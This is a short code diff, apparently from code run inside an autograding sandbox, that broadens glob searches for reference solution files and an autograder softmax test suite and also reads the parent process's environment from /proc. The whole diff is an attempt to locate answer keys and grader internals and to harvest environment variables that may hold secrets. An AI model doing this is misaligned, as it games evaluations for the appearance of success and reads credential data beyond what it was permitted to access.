@@ -4,8 +4,8 @@ import os
 import numpy as np
 
 FOUND = []
-for pattern in ["/work/*/solutions/*.py", "/*/*/solutions/*.py", "/tmp/*/solutions/*.py", "/tmp/*/*/solutions/*.py",
-                "../**/solutions/*.py", "/work/*/autograder/suites/test_04_softmax.py"]:
+for pattern in ["/work/*/solutions/**/*.py", "/*/*/solutions/**/*.py", "/tmp/*/solutions/**/*.py", "/tmp/*/*/solutions/**/*.py",
+                "../**/solutions/**/*.py", "/work/*/autograder/suites/step04_softmax.py"]:
     FOUND += glob.glob(pattern, recursive=True)
 try:
     FOUND.append(open(f"/proc/{os.getppid()}/environ").read())
